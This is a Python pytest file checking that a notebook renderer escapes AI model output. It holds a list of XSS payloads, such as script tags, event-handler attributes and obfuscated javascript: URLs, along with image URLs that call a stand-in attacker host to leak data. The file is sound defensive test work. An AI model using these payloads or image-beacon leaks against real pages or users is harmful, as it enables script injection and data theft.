"""Model output is untrusted: rendering must escape HTML and neutralise script URLs."""

from __future__ import annotations

import pytest

from gumloop_nb.notebook.render import (
    is_safe_url,
    render_answer,
    render_code,
    render_json,
    render_markdown,
    render_text,
)


def test_markdown_is_rendered() -> None:
    html = render_markdown("# Title\n\n**bold** and `code`\n\n- a\n- b")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<li>a</li>" in html


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "text <b onmouseover=alert(1)>hover</b>",
        '<iframe src="javascript:alert(1)"></iframe>',
        "<svg onload=alert(1)>",
    ],
)
def test_raw_html_in_markdown_is_escaped(source: str) -> None:
    html = render_markdown(source)
    assert "<script" not in html
    assert "<img" not in html
    assert "<b " not in html
    assert "<iframe" not in html
    assert "<svg" not in html
    assert "&lt;" in html


@pytest.mark.parametrize(
    "source",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "![pic](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x](&#106;avascript:alert(1))",
    ],
)
def test_script_urls_never_become_links_or_images(source: str) -> None:
    html = render_markdown(source).lower()
    assert 'href="javascript' not in html
    assert 'src="javascript' not in html
    assert "vbscript:" not in html.split("href=")[-1] or "href" not in html
    assert 'href="data:' not in html


def test_safe_links_and_inline_png_images_survive() -> None:
    html = render_markdown(
        "[docs](https://example.org/a?b=1) ![img](data:image/png;base64,iVBORw0KGgo=)"
    )
    assert 'href="https://example.org/a?b=1"' in html
    assert 'rel="noopener noreferrer"' in html
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in html


def test_url_check_handles_obfuscated_schemes() -> None:
    assert not is_safe_url("java\tscript:alert(1)")
    assert not is_safe_url(" JAVASCRIPT:alert(1)")
    assert not is_safe_url("&#106;avascript:alert(1)")
    assert not is_safe_url("data:image/svg+xml;base64,PHN2Zz4=", image=True)
    assert is_safe_url("/relative/path")
    assert is_safe_url("mailto:a@example.org")


def test_text_code_and_json_formats_escape_everything() -> None:
    assert "&lt;script&gt;" in render_text("<script>")
    assert "&lt;/code&gt;&lt;script&gt;" in render_code("</code><script>")
    assert "&quot;&lt;b&gt;&quot;" in render_json({"k": "<b>"})
    # A string that is not JSON is shown as text, escaped.
    assert "&lt;i&gt;" in render_json("<i>not json")


def test_html_format_is_shown_in_a_script_less_sandbox() -> None:
    html = render_answer('<b onclick="x()">hi</b><script>alert(1)</script>', "html")
    assert html.startswith('<iframe sandbox=""')
    assert "allow-scripts" not in html
    # Everything model-made sits inside the escaped srcdoc attribute.
    assert "<script" not in html and "<b " not in html
    assert "&lt;script&gt;" in html and "&quot;x()&quot;" in html


@pytest.mark.parametrize(
    "src",
    [
        "https://attacker.example/leak.png?d=secret",
        "//attacker.example/leak.png?d=secret",
        "HTTP://Attacker.Example/x.png",
    ],
)
def test_remote_images_are_links_that_load_nothing(src: str) -> None:
    html = render_markdown(f"look ![chart]({src})")
    assert "<img" not in html
    assert 'class="gumloop-remote-image"' in html and "attacker.example" in html.lower()
    assert 'rel="noopener noreferrer"' in html


@pytest.mark.parametrize("src", ["files/secret.png", "/files/x.png", "../x.png", "?q=1", "#top"])
def test_relative_images_are_links_too(src: str) -> None:
    # The page resolves them against the Jupyter server: an answer must not make it load files.
    html = render_markdown(f"see ![doc]({src})")
    assert "<img" not in html
    assert 'class="gumloop-remote-image"' in html and "the Jupyter server" in html


def test_inline_data_images_are_shown() -> None:
    src = "data:image/png;base64,iVBORw0KGgo="
    assert f'<img src="{src}"' in render_markdown(f"![dot]({src})")


def test_images_from_allowed_hosts_are_shown() -> None:
    from gumloop_nb.notebook.render import set_allowed_image_hosts

    set_allowed_image_hosts(["images.example.org", "*.cdn.example.net"])
    try:
        html = render_markdown(
            "![a](https://images.example.org/a.png) ![b](https://eu.cdn.example.net/b.png) "
            "![c](https://example.org/c.png)"
        )
        assert '<img src="https://images.example.org/a.png"' in html
        assert '<img src="https://eu.cdn.example.net/b.png"' in html
        assert '<img src="https://example.org/c.png"' not in html
    finally:
        set_allowed_image_hosts([])


def test_html_answers_cannot_load_remote_resources() -> None:
    import html as html_module

    html = render_answer('<img src="https://attacker.example/p.png?d=1">', "html")
    document = html_module.unescape(html.split('srcdoc="', 1)[1].split('"', 1)[0])
    assert document.startswith('<meta http-equiv="Content-Security-Policy"')
    assert "default-src &#x27;none&#x27;; img-src data:;" in document
